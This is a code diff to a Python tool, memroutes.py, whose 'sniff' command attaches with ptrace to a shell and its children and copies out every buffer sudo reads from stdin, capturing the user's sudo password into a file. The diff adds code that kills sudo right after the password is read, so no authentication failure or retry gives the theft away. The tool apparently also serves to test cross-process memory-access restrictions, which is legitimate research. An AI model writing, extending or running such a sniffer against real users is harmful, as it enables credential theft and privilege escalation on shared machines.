@@ -22,7 +22,10 @@ Usage: memroutes.py COMMAND ARGS...
                           and collect what every sudo read(0, buf, n) got
                           (PEEKDATA of the buffer at syscall exit); writes
                           the captured bytes to OUTFILE when the shell exits;
-                          creates GOFILE once attached
+                          creates GOFILE once attached; once sudo has
+                          read its stdin and makes another syscall, it
+                          is killed (the password was read: nothing more
+                          to sniff)
   cma SECONDS             MPI-like shared-memory transport: fork a peer of
                           the same user and copy from it with
                           process_vm_readv in a loop; prints "calls=N"
@@ -221,6 +224,7 @@ def sniff(shell, outfile, gofile=None):
     if gofile:  # the shell may go on: it is traced, children included
         open(gofile, "w").close()
     captured, in_syscall, denied, seen = b"", {}, 0, {}
+    read_by = set()  # sudo processes that read their stdin
     regs = user_regs()
     while True:
         try:
@@ -238,12 +242,21 @@ def sniff(shell, outfile, gofile=None):
                 libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs))
                 entering = not in_syscall.get(pid, False)
                 in_syscall[pid] = entering
+                if entering and pid in read_by and \
+                        not (regs.orig_rax == 0 and regs.rdi == 0):
+                    # sudo has read its password line and goes on to
+                    # check it: the sniffer has what it came for, and
+                    # ends sudo there (no PAM failure delay and retry).
+                    os.kill(pid, signal.SIGKILL)
+                    read_by.discard(pid)
+                    continue
                 if not entering and regs.orig_rax == 0 and regs.rdi == 0 \
                         and 0 < regs.rax < 4096:
                     with open(f"/proc/{pid}/comm") as f:
                         comm = f.read().strip()
                     seen[comm] = seen.get(comm, 0) + 1
                     if comm == "sudo":
+                        read_by.add(pid)
                         for off in range(0, regs.rax, 8):
                             w, err = peek_word(pid, regs.rsi + off)
                             if w is None:
